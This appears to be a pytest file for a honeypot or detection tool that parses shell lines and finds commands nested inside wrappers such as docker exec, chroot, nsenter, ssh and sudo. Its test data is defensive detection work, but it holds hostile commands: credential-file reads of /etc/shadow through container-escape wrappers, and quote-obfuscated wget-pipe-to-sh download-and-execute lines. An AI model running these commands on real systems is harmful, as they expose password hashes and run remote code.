"""Programs that run another one: what they carry is a view beside their own, however deep."""

from __future__ import annotations

import pytest

from decnet.shell.carriers import Carried, carried, skip_options
from decnet.shell.views import MAX_NESTING, MAX_VIEWS, views
from decnet.ttp.matcher import Failures, RuleIndex
from tests.unit.test_rule_pack import RULE, load_bytes

INNER = "cat /etc/shadow"


@pytest.mark.parametrize(
    "line",
    [
        f"docker exec c {INNER}",
        f"docker -H unix:///x exec -u root -it c {INNER}",
        f"docker run --rm -v /:/h alpine {INNER}",
        f"podman container exec c {INNER}",
        f"kubectl exec -n web pod -c app -- {INNER}",
        f"kubectl -n web exec pod -- {INNER}",
        f"chroot /mnt {INNER}",
        f"chroot --userspec=root /mnt {INNER}",
        f"nsenter -t 1 -m -u -- {INNER}",
        f"nsenter --target 1 --mount {INNER}",
        f"unshare -rm {INNER}",
        f"flock -u / {INNER}",
        f"flock -w 5 /tmp/l -c '{INNER}'",
        f"script -qc '{INNER}' /dev/null",
        f"script --command '{INNER}'",
        f"unbuffer -p {INNER}",
        f"ssh -o BatchMode=yes -p22 root@h '{INNER}'",
        f"ssh h -p 22 {INNER}",
        f"sshpass -p x ssh h {INNER}",
        f"watch -n 5 {INNER}",
        f"watch '{INNER} | head'",
        f"taskset -c 0 {INNER}",
        f"chrt 5 {INNER}",
        f"strace -f -o /tmp/o {INNER}",
        f"chpst -u bob {INNER}",
        f"runuser -u bob -- {INNER}",
        f"runuser -l bob -c '{INNER}'",
        f"systemd-run -u x --scope {INNER}",
        f"ip netns exec blue {INNER}",
        f"screen -dmS w {INNER}",
        f"tmux new-session -d -s a '{INNER}'",
        f"trap '{INNER}' EXIT",
        f"parallel -j 2 {INNER} ::: a b",
        "start-stop-daemon -S -x cat -- /etc/shadow",
        f"sudo -nu root {INNER}",
        f"find / -name a -exec sh -c '{INNER}' \\;",
        "find / -name a -exec cat /etc/shadow +",
        f"sudo nice -n 5 docker exec c sh -c '{INNER}'",
        f"proxychains4 -q {INNER}",
        f"su - bob -c '{INNER}'",
    ],
)
def test_what_a_carrier_runs_is_a_view_of_its_own(line: str) -> None:
    found = views(line).views
    assert any(view.text == INNER and view.argv == ("cat", "/etc/shadow") for view in found), found
    assert found[0].text == line


@pytest.mark.parametrize(
    ("line", "argv0"),
    [(f"docker exec c {INNER}", "docker"), (f"chroot /m {INNER}", "chroot"), (f"watch {INNER}", "watch")],
)
def test_a_carrier_keeps_its_own_view(line: str, argv0: str) -> None:
    assert views(line).views[0].argv0 == argv0


@pytest.mark.parametrize(
    "line",
    [
        "docker ps -a",
        "docker run alpine",
        "kubectl get exec",
        "ssh host",
        "screen -r",
        "tmux attach",
        "trap - INT",
        "script log",
        "flock /x",
        "chroot /mnt",
        "ip addr show",
        "tmux new",
        "start-stop-daemon -K -x a",
        "watch",
        "kubectl exec pod --",
        "strace -p 1",
        "trap x",
        "grep -c exec docker",
    ],
)
def test_a_carrier_without_a_command_carries_nothing(line: str) -> None:
    assert carried(line.split()) == Carried()


def test_nothing_is_carried_by_other_programs_or_by_none() -> None:
    assert carried(["echo", "docker", "exec", "c", "id"]) == carried([]) == Carried()


def test_a_value_follows_a_cluster_whose_last_letter_takes_it() -> None:
    values = frozenset({"-u", "-n"})
    assert skip_options(["-Hu", "root", "id"], 0, values) == (2, False)
    assert skip_options(["-n5", "id"], 0, values) == (1, False)
    assert skip_options(["-nx", "id"], 0, values) == (1, False)
    assert skip_options(["-x", "--", "-id"], 0, values) == (2, True)
    assert skip_options(["-", "id"], 0, values) == (0, False)


def test_carriers_are_followed_three_deep_and_deeper_is_told() -> None:
    deep = "chroot /m " * MAX_NESTING + INNER
    assert any(view.text == INNER for view in views(deep).views)
    assert not views(deep).capped
    assert views("chroot /m " + deep).capped


@pytest.mark.parametrize(
    "line",
    [
        'w""get http://203.0.113.9/x|sh',
        "w''get http://203.0.113.9/x|sh",
        "wg'e't http://203.0.113.9/x|sh",
        "w\\get http://203.0.113.9/x|sh",
        "w$@get http://203.0.113.9/x|sh",
    ],
)
def test_a_rule_on_whole_lines_reads_through_quotes_inside_words(line: str) -> None:
    text = RULE.format(id="R1", pattern=r"wget \S+\|sh", tactic="TA0011", technique="T1105")
    rule, errors = load_bytes(text.replace("{pattern", "{scope: line, pattern").encode(), "R1.yaml")
    assert rule is not None, errors
    assert rule.scope == "line"
    hits, _ = RuleIndex([rule]).command_hits(line, {}, Failures())
    assert [hit.view for hit in hits] == ["line"]
    assert RuleIndex([rule]).command_hits("sh -c 'wget x'", {}, Failures())[0] == []


def test_the_joined_line_counts_among_the_views() -> None:
    found = views("i''d;" + "".join(f"a{i};" for i in range(300)))
    assert len(found.views) == MAX_VIEWS
    assert found.capped
    assert [view.kind for view in found.views[:3]] == ["line", "line", "command"]


def test_redirections_and_blanks_are_no_part_of_the_plain_command() -> None:
    assert "id -u" in [view.text for view in views("  id   -u 2>/dev/null").views]
    assert [(view.kind, view.text) for view in views("id  -u").views] == [
        ("line", "id  -u"),
        ("command", "id -u"),
    ]


def test_views_of_one_command_share_its_number_and_a_line_of_several_has_none() -> None:
    assert [(view.text, view.number) for view in views("sudo id >x; chroot /m ls").views] == [
        ("sudo id >x; chroot /m ls", 0),
        ("sudo id >x", 1),
        ("sudo id", 1),
        ("id", 1),
        ("chroot /m ls", 2),
        ("ls", 2),
    ]
    assert [(view.text, view.number) for view in views("id >x").views] == [("id >x", 1), ("id", 1)]


SEQUENCE = """rule_id: R1
rule_version: 1
name: x
description: d
applies_to: [command]
match:
  sequence:
    steps: [{field: command_text, op: startswith, value: id}, {field: command_text, op: contains, value: id}]
    within: 5m
emits: [{tactic: TA0007, technique_id: T1033, confidence: 0.8}]
"""


@pytest.mark.parametrize(
    ("line", "marks"),
    [("id >x", [(1, 3)]), ("sudo id >x", [(1, 3)]), ("id; ls; id -u", [(1, 3), (3, 3)]), ("echo", [])],
)
def test_one_command_is_one_step_however_many_views_it_has(line: str, marks: list[tuple[int, int]]) -> None:
    rule, errors = load_bytes(SEQUENCE.encode(), "R1.yaml")
    assert rule is not None, errors
    hits, _ = RuleIndex([rule]).command_hits(line, {}, Failures())
    assert [(mark.pos, mark.steps) for hit in hits for mark in hit.marks] == marks
